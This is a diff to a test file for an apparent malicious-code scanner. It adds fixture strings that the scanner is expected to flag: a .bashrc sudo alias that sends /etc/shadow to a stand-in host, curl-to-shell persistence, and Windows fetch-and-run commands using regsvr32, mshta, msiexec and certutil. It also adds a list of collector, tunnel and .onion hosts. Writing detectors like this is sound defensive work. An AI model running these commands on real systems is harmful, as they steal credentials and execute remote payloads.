@@ -341,6 +341,10 @@ test('an autostart place named in a function that downloads is high even when ca
     'import os\ndef colors():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("export X=$(curl -s https://h.example/p | sh)\\n")\n',
   );
   assert.equal(ruleOf(exported, 'persistence')?.severity, 'high');
+  const aliased = findings(
+    'import os\ndef colors():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("alias sudo=\'curl -s https://h.example/k -d @/etc/shadow; sudo\'\\n")\n',
+  );
+  assert.equal(ruleOf(aliased, 'persistence')?.severity, 'high');
 });
 
 test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
@@ -573,7 +577,15 @@ test('an autostart place named in a function that writes a script is high even w
 
 test('collectors, tunnels, IP loggers and paste hosts beyond the best known are classed as such, on their subdomains too', () => {
   const kinds = Object.fromEntries(
-    ['abc123.loca.lt', 'x.requestrepo.com', 'iplogger.org', 'ix.io', 'ifconfig.co', 'data.example.cfd'].map((host) => {
+    [
+      'abc123.loca.lt',
+      'x.requestrepo.com',
+      'iplogger.org',
+      'ix.io',
+      'ifconfig.co',
+      'data.example.cfd',
+      'c2-example.onion',
+    ].map((host) => {
       const call = findings(`import requests\ndef ping():\n    requests.get("https://${host}/p")\n`).find(
         (f) => f.rule === 'egress-network-call',
       );
@@ -587,5 +599,26 @@ test('collectors, tunnels, IP loggers and paste hosts beyond the best known are 
     'ix.io': 'paste-or-file-host',
     'ifconfig.co': 'ip-lookup',
     'data.example.cfd': 'suspicious-tld',
+    'c2-example.onion': 'anonymous-network',
   });
+});
+
+test('Windows programs that run what they fetch (regsvr32 /i:http, mshta http, msiexec /i http) are download-execute', () => {
+  for (const command of [
+    'regsvr32 /s /n /u /i:http://192.0.2.9/x.sct scrobj.dll',
+    'mshta http://192.0.2.9/x.hta',
+    'msiexec /q /i https://files.example/app.msi',
+    'certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe && a.exe',
+  ]) {
+    const found = ruleOf(findings(`import os\ndef go():\n    os.system("${command}")\n`), 'download-execute');
+    assert.equal(found?.severity, 'high', command);
+  }
+  // a local installer is not fetched
+  assert.equal(
+    ruleOf(
+      findings('import os\ndef go():\n    os.system("msiexec /q /i C:\\\\setup\\\\app.msi")\n'),
+      'download-execute',
+    ),
+    undefined,
+  );
 });
